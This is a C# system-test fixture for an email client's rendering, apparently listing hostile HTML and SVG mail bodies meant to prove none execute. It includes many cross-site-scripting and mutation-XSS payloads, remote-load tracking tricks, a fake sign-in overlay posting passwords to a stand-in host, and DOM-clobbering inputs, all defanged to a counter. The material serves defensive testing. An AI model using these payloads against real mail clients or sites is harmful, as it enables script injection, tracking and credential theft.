namespace Inbox.SystemTests.Pages;

/// <summary>
/// What hostile mails bring, by the rows of the list of bad inputs. <c>ran(…)</c> is a function that counts its calls; nothing of <c>unasked.example</c> may ever be asked for.
/// Words after a payload would be swallowed by what is left open, so the words that prove that a mail is shown stand before it.
/// </summary>
internal static class Hostile
{
    public static IReadOnlyDictionary<string, string[]> Rows { get; } = new Dictionary<string, string[]>
    {
        ["B29"] =
        [
            """<svg><a><animate attributeName="href " values="javascript:ran(29)"/><text x="20" y="20">Click</text></a></svg>""",
            """<svg><a id=p><text>Click</text></a><animate xlink:href="#p" attributeName=href values="javascript:ran(29)"/></svg>""",
            """<svg onload=ran(29)><script>ran(29)</script><animate onbegin=ran(29) attributeName=x dur=1s></svg>""",
            """<svg><image href="http://unasked.example/29a.svg"/><use href="http://unasked.example/29b.svg#x"/></svg>""",
        ],
        ["B30"] =
        [
            """<svg><a><animate attributeName=href from="javascript:ran(30)" to="javascript:ran(30)" by="javascript:ran(30)" begin=0s/><text>x</text></a></svg>""",
            """<svg><a><set attributeName=href to="javascript:ran(30)"/><text>x</text></a></svg>""",
            """<svg><rect width=9 height=9><set attributeName="style" to="fill:url(http://unasked.example/30.svg#a)"/></rect></svg>""",
            """<svg><rect><animate attributeName=onmouseover from=ran(30) to=ran(30) values="ran(30)"/></rect></svg>""",
        ],
        ["B31"] =
        [
            "<scr<script>ipt>ran(31)</scr</script>ipt><script>ran(31)</script>",
            "<svg><!--</svg><img src=http://unasked.example/31a onerror=ran(31)>--></svg>",
            "<svg><style><!--</style><img src=http://unasked.example/31b onerror=ran(31)>--></style></svg>",
            "<!--><img src=http://unasked.example/31c onerror=ran(31)>--><!-- --!><img src=http://unasked.example/31d onerror=ran(31)>",
            "<![CDATA[><img src=http://unasked.example/31e onerror=ran(31)>]]><?x><img src=http://unasked.example/31f onerror=ran(31)>?>",
        ],
        ["B32"] = ["<img src=http://unasked.example/32a onerror=ran(32)//", "<img src=http://unasked.example/32b onerror=ran(32)//\n<p>later</p>"],
        ["B33"] =
        [
            "<form><math><mtext></form><form><mglyph><style></math><img src=http://unasked.example/33a onerror=ran(33)>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://unasked.example/33b onerror=ran(33)&gt;\">",
            "<noscript><title></noscript><img src=http://unasked.example/33c onerror=ran(33)></title>",
            "<svg></p><style><a id=\"</style><img src=http://unasked.example/33d onerror=ran(33)>\">",
            "<math><annotation-xml encoding=\"text/html\"><xmp>&lt;/xmp&gt;&lt;img src=http://unasked.example/33e onerror=ran(33)&gt;</xmp></annotation-xml></math>",
            "<select><template><img src=http://unasked.example/33f onerror=ran(33)></template></select>",
        ],
        ["B34"] =
        [
            "<a href=\"j&#x61vascript:ran(34)\">a</a><a href=\"java\tscript:ran(34)\">b</a><a href=\"java\nscript:ran(34)\">c</a><a href=\" &#1;javascript:ran(34)\">d</a>",
            "<a href=\"data:text/html,<script>parent.ran(34)</script>\">e</a><a href=\"vbscript:ran(34)\">f</a><a href=\"javascript:x//http://ok.example\">g</a>",
            "<a href=\"javascript&colon;ran(34)\">h</a><a xlink:href=\"javascript:ran(34)\">i</a><area href=\"javascript:ran(34)\"><form action=\"javascript:ran(34)\"><button>j</button></form>",
            "<iframe src=\"javascript:parent.ran(34)\"></iframe><embed src=\"javascript:ran(34)\"><object data=\"data:text/html,<script>parent.ran(34)</script>\"></object>",
        ],
        ["B35"] =
        [
            "<p style=\"background:url(http://unasked.example/35a)\">a</p><p style=\"background-image:u\\72l(http://unasked.example/35b)\">b</p><p style=\"background:url(http://unasked.example/35c\">c</p>",
            "<style>@import 'http://unasked.example/35d.css';p{background:url(http://unasked.example/35e)}@font-face{font-family:x;src:url(http://unasked.example/35f)}*{font-family:x}</style>",
            "<p style=\"--x:url(http://unasked.example/35g);background:var(--x)\">d</p><p style=\"list-style:url(http://unasked.example/35h);cursor:url(http://unasked.example/35i),auto\">e</p>",
            "<p style=\"background:image-set('http://unasked.example/35j' 1x);content:url(http://unasked.example/35k)\">f</p><table background=\"http://unasked.example/35l\"><td background=\"http://unasked.example/35m\">g</table>",
            "<video poster=\"http://unasked.example/35n\" src=\"http://unasked.example/35o\" autoplay></video><audio src=\"http://unasked.example/35p\" autoplay></audio><input type=image src=\"http://unasked.example/35q\">",
            "<img srcset=\"http://unasked.example/35r 1x\"><picture><source srcset=\"http://unasked.example/35s\"><img></picture><img src=\"http://unasked.example/35t\"><img src=\"//unasked.example/35u\">",
            "<svg><filter id=f><feImage href=\"http://unasked.example/35v\"/></filter><rect width=9 height=9 filter=\"url(#f)\" fill=\"url(http://unasked.example/35w#p)\"/></svg>",
            "<link rel=stylesheet href=\"http://unasked.example/35x\"><link rel=prefetch href=\"http://unasked.example/35y\"><link rel=dns-prefetch href=\"//unasked.example\"><object data=\"http://unasked.example/35z\"></object>",
            "<body background=\"http://unasked.example/35A\"><img lowsrc=\"http://unasked.example/35B\" dynsrc=\"http://unasked.example/35C\"><bgsound src=\"http://unasked.example/35D\"><track src=\"http://unasked.example/35E\">",
        ],
        ["B36"] =
        [
            "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Your session has ended.<form action=\"http://unasked.example/36\"><input type=password name=p autofocus><button>Sign in</button></form></div>",
            "<a href=\"http://unasked.example/36b\" target=_top>Go on</a><a href=\"http://unasked.example/36c\" target=_parent>Go on</a>",
            "<div style=\"margin-top:-900px;position:absolute\">Over</div><dialog open>Sign in again</dialog><div popover>p</div>",
        ],
        ["B37"] =
        [
            "<form id=location name=submit><input id=attributes name=parentNode><input name=nodeName></form>",
            "<img id=location name=body><a id=document href=\"http://unasked.example/37\"></a><a id=document name=cookie></a><p id=app>x</p><img name=getElementById><img name=querySelectorAll>",
        ],
        ["B38"] =
        [
            "<base href=\"http://unasked.example/38/\"><img src=\"relative.gif\"><a href=\"relative\">r</a>",
            "<meta http-equiv=refresh content=\"0;url=http://unasked.example/38b\"><meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
            "<iframe srcdoc=\"<script>parent.ran(38)</script><img src=http://unasked.example/38c>\"></iframe><iframe src=\"http://unasked.example/38d\"></iframe><frameset><frame src=\"http://unasked.example/38e\"></frameset>",
        ],
        ["B41"] = [string.Concat(Enumerable.Repeat("<div>", 100_000)) + "deep", "<p " + string.Join(' ', Enumerable.Range(0, 60_000).Select(n => $"a{n}=1")) + " onclick=ran(41)>wide</p>"],
    };

    /// <summary>Plain text for the page's linkifier (B39).</summary>
    public const string Text =
        "http://x.example\"onmouseover=ran(39)// and <http://a'><img src=http://unasked.example/39 onerror=ran(39)> and http://y.example/'onclick='ran(39)\n"
        + "javascript:ran(39) data:text/html,<script>ran(39)</script> <a href=javascript:ran(39)>x</a> http://z.example/<script>ran(39)</script>\n";

    /// <summary>For every place that shows a short text (B40).</summary>
    public const string Words = "\"><img src=http://unasked.example/40 onerror=ran(40)>";
}
